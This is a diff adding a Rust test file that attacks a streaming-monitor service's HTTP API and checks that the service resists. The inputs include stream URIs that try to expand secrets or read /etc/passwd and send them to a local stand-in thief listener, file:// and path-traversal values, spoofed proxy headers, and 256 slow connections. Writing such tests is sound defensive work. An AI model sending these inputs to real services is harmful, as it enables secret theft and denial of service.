@@ -1,0 +1,411 @@
+// SPDX-License-Identifier: MPL-2.0
+//! What others on the network, or on this machine, may try with a service that runs. None of it succeeds.
+
+use std::io::{BufRead, BufReader, Read, Write};
+use std::net::{TcpListener, TcpStream};
+use std::os::unix::fs::PermissionsExt;
+use std::process::{Child, Command, Stdio};
+use std::sync::{Arc, Mutex};
+use std::time::{Duration, Instant};
+
+use gst::prelude::*;
+
+use super::client::{Answer, ask, ask_socket, get, port};
+use super::running::{Folder, Running};
+
+/// A secret that must not come out.
+const SECRET: &str = "hunter2secret";
+const TOKEN: &str = "Authorization: Bearer operators-token";
+
+/// Where stolen things would arrive: keeps the first line of each request.
+struct Thief {
+    port: u16,
+    taken: Arc<Mutex<Vec<String>>>,
+}
+
+impl Thief {
+    fn start() -> Self {
+        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+        let port = listener.local_addr().unwrap().port();
+        let taken: Arc<Mutex<Vec<String>>> = Arc::default();
+        let lines = Arc::clone(&taken);
+        std::thread::spawn(move || {
+            for connection in listener.incoming().flatten() {
+                let mut line = String::new();
+                let _ = BufReader::new(connection).read_line(&mut line);
+                lines.lock().unwrap().push(line);
+            }
+        });
+        Self { port, taken }
+    }
+}
+
+/// A service with one stream that can't be reached, a token, a Unix socket, and more lines in `[http]`.
+struct Target {
+    folder: Folder,
+    port: u16,
+    config: String,
+    service: Running,
+}
+
+impl Target {
+    fn start(name: &str, http: &str) -> Self {
+        let (folder, port) = (Folder::new(name), port());
+        let token = folder.path("token");
+        std::fs::write(&token, "operators-token\n").unwrap();
+        let socket = folder.path("api.sock");
+        let config = format!(
+            "[[streams]]\nid = \"one\"\nuri = \"srt://127.0.0.1:1\"\n\
+             [http]\nlisten = \"127.0.0.1:{port}\"\nsocket = \"{socket}\"\n{http}"
+        )
+        .replace("TOKEN", &format!("api-token = {{ file = \"{token}\" }}\n"));
+        let path = folder.config(&config);
+        let service = Running::start_in(&[&path], &[("ATTACKED_SECRET", SECRET)]);
+        service.wait(" streams, http://", 1);
+        Self {
+            folder,
+            port,
+            config,
+            service,
+        }
+    }
+
+    fn put(&self, headers: &[&str], uri: &str) -> Answer {
+        let body = serde_json::json!({ "uri": uri }).to_string();
+        ask(self.port, "PUT", "/api/v1/streams/x", headers, &body)
+    }
+
+    /// All that everybody may read, and the log.
+    fn said(&self) -> String {
+        let paths = [
+            "/",
+            "/readyz",
+            "/metrics",
+            "/api/v1/board",
+            "/api/v1/streams",
+            "/api/v1/streams/one",
+            "/api/v1/events",
+        ];
+        let pages = paths.map(|path| get(self.port, path).text());
+        pages.join("\n") + &self.service.lines().join("\n")
+    }
+}
+
+#[test]
+fn requests_get_neither_secrets_nor_files_nor_devices() {
+    let target = Target::start("attack-uris", "TOKEN");
+    let file = target.folder.path("secret");
+    std::fs::write(&file, SECRET).unwrap();
+    let thief = Thief::start();
+    let there = format!("http://127.0.0.1:{}", thief.port);
+    let mut uris = vec![
+        format!("{there}/${{ATTACKED_SECRET}}"),
+        format!("{there}/?a=${{file:{file}}}"),
+        format!("{there}/${{file:/etc/passwd}}"),
+        "${ATTACKED_SECRET}".to_owned(),
+        file.clone(),
+        format!("file://{file}"),
+        format!("FILE://localhost{file}"),
+        "../../etc/passwd".to_owned(),
+        "data:text/plain,x".to_owned(),
+        String::new(),
+    ];
+    gst::init().unwrap();
+    let all = gst::Registry::get().features(gst::ElementFactory::static_type());
+    let all = all
+        .into_iter()
+        .filter_map(|f| f.downcast::<gst::ElementFactory>().ok());
+    let network = [
+        "http", "https", "rist", "rtmp", "rtmps", "rtp", "rtsp", "rtsps", "srt", "udp",
+    ];
+    let schemes = all.flat_map(|factory| factory.uri_protocols());
+    let schemes = schemes.map(|scheme| scheme.to_lowercase());
+    let others = [
+        "ges",
+        "fd",
+        "v4l2",
+        "splitfile",
+        "appsrc",
+        "dvb",
+        "cdda",
+        "smb",
+        "resource",
+    ];
+    let others = others.map(ToOwned::to_owned);
+    for scheme in schemes
+        .chain(others)
+        .filter(|s| !network.contains(&s.as_str()))
+    {
+        uris.push(format!("{scheme}:///tmp/x"));
+        uris.push(format!("{scheme}://3"));
+    }
+    let socket = target.folder.path("api.sock");
+    for uri in &uris {
+        let body = serde_json::json!({ "uri": uri }).to_string();
+        for answer in [
+            target.put(&[TOKEN], uri),
+            ask_socket(&socket, "PUT", "/api/v1/streams/x", &[], &body),
+        ] {
+            assert_eq!(answer.status, 422, "{uri}: {}", answer.text());
+            let says = ["configuration file", "there are: http, ", "is empty"];
+            assert!(
+                says.iter().any(|s| answer.text().contains(s)),
+                "{}",
+                answer.text()
+            );
+            assert!(!answer.text().contains(SECRET));
+        }
+    }
+    std::thread::sleep(Duration::from_secs(1));
+    assert!(thief.taken.lock().unwrap().is_empty());
+    assert!(!target.said().contains(SECRET));
+    assert_eq!(target.service.stop(), Some(0));
+}
+
+#[test]
+fn nobody_changes_streams_without_a_token_but_by_the_socket() {
+    let target = Target::start("attack-token", "");
+    for headers in [
+        &[][..],
+        &["Host: localhost"],
+        &["Host: 127.0.0.1", "Origin: http://127.0.0.1"],
+        &["Authorization: Bearer "],
+        &[TOKEN],
+    ] {
+        let answer = target.put(headers, "srt://127.0.0.1:2");
+        assert_eq!(answer.status, 403, "{headers:?}");
+        assert!(answer.text().contains("api-token"), "{}", answer.text());
+        let path = "/api/v1/streams/one";
+        assert_eq!(ask(target.port, "DELETE", path, headers, "").status, 403);
+    }
+    let socket = target.folder.path("api.sock");
+    let mode = std::fs::metadata(&socket).unwrap().permissions().mode();
+    assert_eq!(mode & 0o777, 0o600);
+    let body = r#"{"uri": "srt://127.0.0.1:2"}"#;
+    let by_socket =
+        |headers: &[&str]| ask_socket(&socket, "PUT", "/api/v1/streams/x", headers, body).status;
+    assert_eq!(by_socket(&["X-Forwarded-For: 1.2.3.4"]), 403);
+    assert_eq!(by_socket(&[]), 201);
+    target
+        .service
+        .wait("PUT /api/v1/streams/x from the Unix socket: 201", 1);
+    target
+        .service
+        .wait("PUT /api/v1/streams/x from 127.0.0.1: 403", 1);
+    assert_eq!(target.service.stop(), Some(0));
+    assert!(!std::fs::exists(&socket).unwrap());
+}
+
+/// nginx before a port.
+struct Proxy {
+    child: Child,
+    port: u16,
+}
+
+impl Proxy {
+    /// None if it isn't installed.
+    fn start(folder: &Folder, to: u16, headers: &str) -> Option<Self> {
+        let (port, path) = (port(), folder.path(&format!("nginx-{to}")));
+        std::fs::create_dir_all(&path).unwrap();
+        let temporary = ["client_body", "proxy", "fastcgi", "uwsgi", "scgi"];
+        let temporary = temporary.map(|name| format!("{name}_temp_path {path}/{name};"));
+        let text = format!(
+            "daemon off; master_process off; pid {path}/pid; error_log {path}/errors; events {{}}\n\
+             http {{ access_log off; {}\n\
+             server {{ listen 127.0.0.1:{port}; location /mon/ {{ proxy_pass http://127.0.0.1:{to}/; {headers} }} }} }}",
+            temporary.join(" ")
+        );
+        let config = format!("{path}/nginx.conf");
+        std::fs::write(&config, text).unwrap();
+        let child = Command::new("nginx")
+            .args(["-p", &path, "-c", &config, "-e", &format!("{path}/errors")])
+            .stdin(Stdio::null())
+            .spawn();
+        let Ok(child) = child else {
+            eprintln!("left out: there is no nginx");
+            return None;
+        };
+        let proxy = Self { child, port };
+        let start = Instant::now();
+        while TcpStream::connect(("127.0.0.1", port)).is_err() {
+            let errors = || std::fs::read_to_string(format!("{path}/errors"));
+            assert!(start.elapsed() < Duration::from_secs(20), "{:?}", errors());
+            std::thread::sleep(Duration::from_millis(50));
+        }
+        Some(proxy)
+    }
+
+    fn ask(&self, method: &str, path: &str, headers: &[&str]) -> u16 {
+        let mut all = vec!["Host: monitor.example"];
+        all.extend(headers);
+        let body = r#"{"uri": "srt://127.0.0.1:2"}"#;
+        ask(self.port, method, &format!("/mon{path}"), &all, body).status
+    }
+}
+
+impl Drop for Proxy {
+    fn drop(&mut self) {
+        let _ = self.child.kill();
+        let _ = self.child.wait();
+    }
+}
+
+#[test]
+fn a_reverse_proxy_opens_nothing() {
+    let one = "/api/v1/streams/one";
+    // As it comes: without a header that says that something was forwarded, by an address of this machine.
+    let target = Target::start("attack-proxy", "");
+    let Some(proxy) = Proxy::start(&target.folder, target.port, "") else {
+        return;
+    };
+    assert_eq!(proxy.ask("GET", one, &[]), 200);
+    assert_eq!(proxy.ask("PUT", one, &[]), 403);
+    assert_eq!(proxy.ask("DELETE", one, &[]), 403);
+    assert_eq!(get(target.port, one).status, 200);
+    // As manuals have it, but the monitor doesn't know of it.
+    let usual =
+        "proxy_set_header Host $host; proxy_set_header X-Forwarded-For $proxy_add_x_forwarded_for;";
+    let target = Target::start("attack-proxy-2", "TOKEN");
+    let proxy = Proxy::start(&target.folder, target.port, usual).unwrap();
+    for method in ["GET", "PUT", "DELETE"] {
+        assert_eq!(proxy.ask(method, one, &[TOKEN]), 403, "{method}");
+    }
+    // Known: its users have what their tokens give them.
+    let known = "TOKENtrusted-proxies = [\"127.0.0.1\"]\nhosts = [\"monitor.example\"]\n";
+    let target = Target::start("attack-proxy-3", known);
+    let proxy = Proxy::start(&target.folder, target.port, usual).unwrap();
+    assert_eq!(proxy.ask("GET", one, &[]), 200);
+    assert_eq!(proxy.ask("PUT", one, &[]), 401);
+    assert_eq!(proxy.ask("PUT", one, &[TOKEN]), 200);
+    target
+        .service
+        .wait("from 127.0.0.1 (by the proxy 127.0.0.1): 200", 1);
+    let other = ask(target.port, "GET", one, &["Host: evil.example"], "");
+    assert_eq!(other.status, 403);
+}
+
+#[test]
+fn a_secret_in_a_wrong_place_is_not_published() {
+    let target = Target::start("attack-echo", "TOKEN");
+    let refused = "the new configuration is refused, the old one goes on";
+    let mqtt = "[[alerts]]\ntype = \"mqtt\"\nhost = \"localhost\"\n";
+    let webhook = "[[alerts]]\ntype = \"webhook\"\n";
+    let wrong = [
+        format!("{mqtt}password = \"{SECRET}\"\n"),
+        format!("{mqtt}password = {{ value = \"{SECRET}\" }}\n"),
+        format!("{mqtt}password = {{ {SECRET} = \"\" }}\n"),
+        format!("{mqtt}password = {SECRET}\n"),
+        format!("{mqtt}password = [\"{SECRET}\"]\n"),
+        format!("{mqtt}tls = \"{SECRET}\"\n"),
+        format!("{mqtt}port = \"{SECRET}\"\n"),
+        format!("{webhook}url = \"http://h/\"\nheaders = \"{SECRET}\"\n"),
+        format!("{webhook}url = \"http://h/\"\nheaders = {{ Authorization = \"{SECRET}\" }}\n"),
+        format!("{webhook}url = {{ env = \"{SECRET}\" }}\n"),
+        format!("[[alerts]]\ntype = \"{SECRET}\"\n"),
+        format!("[[streams]]\nid = \"a\"\nuri = \"rtsp://me:{SECRET}@h/\"\n"),
+        format!("[[streams]]\nid = \"a\"\nuri = \"http://h/?stream_key={SECRET}\"\n"),
+        format!("[[streams]]\nid = \"a\"\nuri = \"http://h/${{{SECRET}}}\"\n"),
+        format!("[[streams]]\nid = \"a\"\nuri = \"http://h/${{{SECRET} x}}\"\n"),
+        format!("[[streams]]\nid = \"a\"\nuri = [\"{SECRET}\"]\n"),
+        format!("[[streams]]\nid = \"a\"\nuri = \"x.ts\"\nloop = \"{SECRET}\"\n"),
+        format!("[capacity]\nadmission = \"{SECRET}\"\n"),
+    ];
+    for (n, text) in wrong.iter().enumerate() {
+        target.folder.config(&format!("{}{text}", target.config));
+        target.service.wait(refused, n + 1);
+        let said = target.said();
+        assert!(!said.contains(SECRET), "{text}: {said}");
+        assert!(said.contains("the log says what is wrong"), "{said}");
+    }
+    // Where it is, is said.
+    let lines = target.service.lines();
+    let places = lines.iter().filter(|line| line.contains("config.toml:"));
+    assert!(places.count() >= wrong.len(), "{lines:?}");
+    assert_eq!(target.service.stop(), Some(0));
+}
+
+#[test]
+fn secrets_in_addresses_of_streams_are_not_shown() {
+    let (folder, port) = (Folder::new("attack-shown"), port());
+    let nobody = super::client::port();
+    let streams = [
+        format!("rtmp://127.0.0.1:{nobody}/live/{SECRET}"),
+        format!("http://127.0.0.1:{nobody}/x.ts?sig={SECRET}&expires=1"),
+        format!("http://{SECRET}@127.0.0.1:{nobody}/x.ts"),
+        format!("http://127.0.0.1:{nobody}/x.ts?a=${{ATTACKED_SECRET}}"),
+        format!("srt://127.0.0.1:{nobody}?streamid={SECRET}"),
+        format!("rtsp://127.0.0.1:{nobody}/user=me_password={SECRET}"),
+    ];
+    let sections = streams.iter().enumerate();
+    let sections =
+        sections.map(|(n, uri)| format!("[[streams]]\nid = \"s{n}\"\nuri = \"{uri}\"\n"));
+    let config = folder.config(&format!(
+        "{}[http]\nlisten = \"127.0.0.1:{port}\"\n",
+        sections.collect::<String>()
+    ));
+    let service = Running::start_in(&[&config], &[("ATTACKED_SECRET", SECRET)]);
+    for n in 0..streams.len() {
+        service.wait(&format!("s{n}: "), 2);
+    }
+    let mut said = service.lines().join("\n");
+    for n in 0..streams.len() {
+        said += &get(port, &format!("/api/v1/streams/s{n}")).text();
+    }
+    for path in [
+        "/api/v1/streams",
+        "/api/v1/board",
+        "/api/v1/events",
+        "/metrics",
+        "/readyz",
+    ] {
+        said += &get(port, path).text();
+    }
+    assert!(!said.contains(SECRET), "{said}");
+    assert_eq!(service.stop(), Some(0));
+    for section in ["events", "records"] {
+        let all = folder.stored(section);
+        assert!(all.iter().all(|line| !line.to_string().contains(SECRET)));
+    }
+}
+
+#[test]
+fn slow_connections_stop_nobody() {
+    let target = Target::start("attack-slow", "");
+    let request = b"GET /api/v1/board HTTP/1.1\r\nHost: localhost\r\nX: ";
+    let mut slow: Vec<TcpStream> = (0..256)
+        .map(|_| {
+            let mut stream = TcpStream::connect(("127.0.0.1", target.port)).unwrap();
+            let _ = stream.write_all(request);
+            stream
+        })
+        .collect();
+    for _ in 0..5 {
+        let start = Instant::now();
+        for path in ["/healthz", "/metrics", "/"] {
+            assert_eq!(get(target.port, path).status, 200, "{path}");
+        }
+        assert!(
+            start.elapsed() < Duration::from_secs(1),
+            "{:?}",
+            start.elapsed()
+        );
+        for stream in &mut slow {
+            let _ = stream.write_all(b"y");
+        }
+        std::thread::sleep(Duration::from_millis(500));
+    }
+    // None stays for long, however many bytes it sends.
+    let start = Instant::now();
+    for stream in &mut slow {
+        stream
+            .set_read_timeout(Some(Duration::from_secs(20)))
+            .unwrap();
+        let _ = stream.read_to_end(&mut Vec::new());
+    }
+    assert!(
+        start.elapsed() < Duration::from_secs(20),
+        "{:?}",
+        start.elapsed()
+    );
+    assert_eq!(target.service.stop(), Some(0));
+}
